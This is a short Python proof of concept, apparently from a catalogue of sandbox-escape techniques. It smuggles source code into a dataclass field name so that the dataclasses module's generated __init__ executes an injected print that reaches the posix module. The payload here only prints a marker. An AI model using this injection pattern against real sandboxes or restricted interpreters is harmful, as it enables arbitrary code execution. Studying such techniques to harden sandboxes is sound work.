# technique: a field name that is source text: dataclasses makes methods out of it
# goal: import
# source: own analysis: exec in trusted code
import dataclasses


class D:
    pass


D.__module__ = 'no such module'
D.__annotations__ = {
    "a, c=print('ESCAPED pid=%d' % __import__('posix').getpid())):#": dataclasses.InitVar[int]}
try:
    dataclasses.dataclass(repr=False, eq=False, match_args=False)(D)
except TypeError:
    pass
